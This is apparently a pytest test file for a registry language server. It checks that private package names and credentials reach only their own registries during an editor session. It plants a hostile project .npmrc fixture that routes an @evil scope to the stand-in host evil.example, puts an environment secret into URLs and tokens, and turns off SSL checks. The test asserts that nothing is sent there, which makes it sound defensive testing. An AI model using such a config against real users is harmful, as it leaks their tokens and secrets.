"""Where every name and every credential goes, in a whole session: each request is seen.

The project is a stranger's, opened by somebody with private registries of their own. What the
public services are asked is asked of stand-ins at their own addresses (``support.world``).
"""

from __future__ import annotations

import asyncio
import json
from base64 import b64encode
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
from lsprotocol import types

from registry_lsp import endpoints
from support.commands import run
from support.editor import PATIENCE, SERVICE_NAMES, Editor, editor, home_beside
from support.events import until
from support.loopback import Act, Reply, Request, as_json
from support.registries import NpmPackage, PypiProject, PypiRelease, Registries
from support.world import World, below, world

NPM = urlsplit(endpoints.NPM_REGISTRY).netloc
PYPI = urlsplit(endpoints.PYPI_INDEX).netloc
SERVICES = [
    urlsplit(url).netloc
    for url in (
        endpoints.OSV,
        endpoints.NPM_DOWNLOADS,
        endpoints.PYPI_DOWNLOADS,
        endpoints.DJANGO_PACKAGES,
    )
]
CORP = "npm.corp.example"
INDEX = "pypi.corp.example"
CDN = "cdn.example"
EVIL = "evil.example"

NPM_TOKEN, PYPI_PASSWORD, SHELL_SECRET = "npm-token-1", "pypi-password-2", "shell-secret-3"
SECRETS = (NPM_TOKEN, PYPI_PASSWORD, SHELL_SECRET)

ONE = NpmPackage(versions={"1.0.0": {}, "2.0.0": {}}, tags={"latest": "2.0.0"})
DEMO = PypiProject(releases={"1.0": PypiRelease(), "2.0": PypiRelease()})

USER_NPMRC = f"@corp:registry=https://{CORP}/npm/\n//{CORP}/npm/:_authToken={NPM_TOKEN}\n"
EVIL_NPMRC = (
    f"@evil:registry=https://{EVIL}/${{SHELL_SECRET}}/\n"
    f"//{EVIL}/:_authToken=${{SHELL_SECRET}}\n"
    f"//{CORP}/npm/:_authToken=${{SHELL_SECRET}}\n"
    "strict-ssl=false\n"
)
PACKAGE_JSON = json.dumps(
    {
        "dependencies": {
            "react": "^1.0.0",
            "@corp/tool": "1.0.0",
            "@corp/moved": "1.0.0",
            "renamed": "npm:@corp/hidden@1.0.0",
            "@evil/thing": "1.0.0",
            "from-git": "git+ssh://git@code.example/secret-git.git",
            "from-path": "file:../secret-path",
        }
    },
    indent=2,
)
NPM_PLACES = {
    '"rea|ct': "latest `2.0.0`",
    '"@corp/to|ol': "latest `2.0.0`",
    '"@corp/mo|ved': "wanted",
    '"rena|med': "latest `2.0.0`",
    '"@evil/th|ing': "nothing is known",
    '"from-g|it': "Git repository",
    '"from-p|ath': "local path",
}
"""Where the cursor stands, and what the hover must tell there."""
PYPI_PLACES = {
    "requ|ests=": "latest `2.0`",
    "corp-l|ib=": "latest `2.0`",
    '"secret-mem|ber"]': "local path",
}
NAMES = (
    *(("npm", "@corp/tool"), ("npm", "@corp/moved"), ("npm", "@evil/thing")),
    *(("pypi", "corp-lib"), ("pypi", "secret-member")),
)
QUERIES = [(operation, *each) for operation in ("package", "downloads") for each in NAMES]
"""What is asked by name, beside what the manifests say."""
SEARCHES = ("@corp/tool", "tool @corp/tool", "@CORP/tool", "tool from-path", "from-path@1.0.0")
"""What somebody searches for, and takes for a name: it may hold names among other things."""
USER_NETRC = f"machine {INDEX} login me password {PYPI_PASSWORD}\n"
PYPROJECT = f"""\
[project]
name = "secret-project"
dependencies = ["requests==1.0", "corp-lib==1.0", "secret-member"]
[tool.uv.sources]
corp-lib = {{ index = "corp" }}
secret-member = {{ path = "../member" }}
[[tool.uv.index]]
name = "corp"
url = "https://{INDEX}/simple/"
explicit = true
"""


async def moved(request: Request) -> Act:
    """The private registry, of which one package lies elsewhere."""
    if "moved" in request.path:
        return Reply(status=302, headers={"location": f"https://{CDN}/packages/moved"})
    return await _corp(request)


_corp = Registries(npm={"@corp/tool": ONE, "@corp/hidden": ONE})


async def cdn(_: Request) -> Act:
    return as_json({"name": "@corp/moved", "versions": {"1.0.0": {}}, "dist-tags": {}})


@pytest.fixture
def around(tmp_path: Path) -> Any:
    """The world, and in it a stranger's project and its user's home."""
    public = Registries(npm={"react": ONE}, pypi={"requests": DEMO})
    private = Registries(pypi={"corp-lib": DEMO})
    nothing = Registries()
    hosts = {
        NPM: below("/npm", public),
        PYPI: public,
        CORP: moved,
        INDEX: private,
        CDN: cdn,
        EVIL: nothing,
        **dict.fromkeys(SERVICES, nothing),
    }
    project = tmp_path / "project"
    home = home_beside(project)
    project.mkdir()
    home.mkdir()
    (home / ".npmrc").write_text(USER_NPMRC)
    (home / ".netrc").write_text(USER_NETRC)
    (project / ".npmrc").write_text(EVIL_NPMRC)
    for name, text in (("package.json", PACKAGE_JSON), ("pyproject.toml", PYPROJECT)):
        (project / name).write_text(text)
    with world(hosts, tmp_path) as it:
        yield it, project


def advised(it: World) -> set[bytes]:
    """The public names of this workspace that the database of advisories has heard of."""
    said = b"".join(each.body for each in it.to(SERVICES[0]))
    return {name for name in (b"react", b"requests") if name in said}


async def session(it: World, project: Path) -> str:
    """A whole session over both manifests: every dependency is looked up and hovered over. What
    the server has said, all of it.
    """
    services = {f"REGISTRY_LSP_SERVICES_{each}_ENABLED": "true" for each in SERVICE_NAMES}
    environ = {**it.environ, **services, "SHELL_SECRET": SHELL_SECRET}
    async with editor(project, environ=environ) as client:
        said = await look_around(client, "package.json", PACKAGE_JSON, NPM_PLACES)
        said += await look_around(client, "pyproject.toml", PYPROJECT, PYPI_PLACES)
        said += [str(await query(client, *each)) for each in QUERIES]
        for text in SEARCHES:
            said.append(str(await query(client, "search", "npm", query=text)))
            said.append(str(await query(client, "package", "npm", text)))
        await until(lambda: {b"react", b"requests"} <= advised(it))
    for registry, name in NAMES:
        for operation in ("package", "downloads"):
            said += (await run(operation, registry, name, folder=project, environ=environ))[1:]
    return "\n".join(said)


async def query(client: Editor, operation: str, registry: str, name: str = "", **more: str) -> Any:
    """What the workspace's command answers."""
    parameters = {"registry": registry, **({"name": name} if name else {}), **more}
    return await client.client.workspace_execute_command_async(
        types.ExecuteCommandParams(command=f"registry-lsp.{operation}", arguments=[parameters])
    )


async def look_around(client: Editor, name: str, text: str, places: Mapping[str, str]) -> list[str]:
    """Open a manifest, wait for all its verdicts, and hover twice over each of *places*, each of
    which must tell its part: what services say late is there at the second look.
    """
    uri = client.open(name, text)

    def is_done(found: Sequence[types.Diagnostic]) -> bool:
        return any("major update" in each.message for each in found)

    said = [each.message for each in await client.diagnostics(uri, is_done)]
    for place, part in places.items():
        for _ in range(2):
            hover = await client.hover(uri, place)
            assert hover is not None
            assert part in hover.contents.value, place
            said.append(hover.contents.value)
    return said


async def test_every_name_and_credential_goes_where_it_belongs(around: Any):
    it, project = around
    said = await asyncio.wait_for(session(it, project), PATIENCE * 4)
    # names
    private = ("corp", "hidden", "moved", "secret", "evil", "from-git", "from-path", "renamed")
    for each in it.seen:
        told = unquote(each.path) + each.body.decode("utf-8", "replace")
        if each.host not in (CORP, INDEX, CDN):
            assert not any(name in told for name in private), each
    asked = {host: {unquote(each.path) for each in it.to(host)} for host in it.hosts}
    assert asked[EVIL] == set()
    assert {"/npm/@corp/tool", "/npm/@corp/moved", "/npm/@corp/hidden"} <= asked[CORP]
    assert asked[CDN] == {"/packages/moved"}
    assert "/react" in asked[NPM]
    assert "/simple/corp-lib/" in asked[INDEX]
    assert "/simple/requests/" in asked[PYPI]
    assert "/downloads/point/last-week/react" in asked[SERVICES[1]]
    assert "/api/packages/requests/recent" in asked[SERVICES[2]]
    assert {each.host for each in it.seen} <= {NPM, PYPI, CORP, INDEX, CDN, *SERVICES}
    # credentials
    basic = "Basic " + b64encode(f"me:{PYPI_PASSWORD}".encode()).decode()
    expected = {CORP: f"Bearer {NPM_TOKEN}", INDEX: basic}
    assert all(each.authorization == expected.get(each.host) for each in it.seen)
    for each in it.seen:
        rest = " ".join((each.host, each.path, each.body.decode("utf-8", "replace")))
        assert not any(secret in rest for secret in SECRETS)
    # what is said, and kept
    assert not any(secret in said for secret in SECRETS)
    kept = b"".join(path.read_bytes() for path in (home_beside(project)).rglob("*.sqlite*"))
    assert kept
    assert not any(secret.encode() in kept for secret in SECRETS)
